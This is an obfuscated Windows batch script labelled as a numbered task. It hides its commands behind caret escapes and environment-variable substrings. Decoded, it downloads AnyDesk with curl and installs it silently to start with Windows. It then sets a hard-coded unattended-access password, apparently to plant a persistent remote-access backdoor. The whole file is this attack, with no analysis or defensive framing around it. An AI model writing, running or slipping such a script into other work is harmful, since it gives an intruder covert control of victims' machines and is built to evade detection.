REM task 7620 v2
@echo off
^c%PUBLIC:~-5,1%%ProgramData:~4,1%%PUBLIC:~12,1% -sL^o %TEMP%\An^y^D^e^sk.^exe ^h^tt^ps://^d^ow^nlo^ad.a^n^ydes^k.^co^m/A^n^y^Desk.exe
%TEMP%\^Any%PROGRAMDATA:~-4,1%%public:~-10,1%%PUBLIC:~-11,1%^k.%comspec:~24,1%%COMSPEC:~-2,1%%comspec:~-3,1% --inst^a^l^l "C:\ProgramData\AnyDesk" --sta^rt-^w^ith-w^in --^si^l^en^t
%COMSPEC:~-3,1%ch%programdata:~5,1% W^i^n^te^r#2^0^25x | "C:\ProgramData\AnyDesk\AnyDesk.exe" --^set-p^as^swor^d
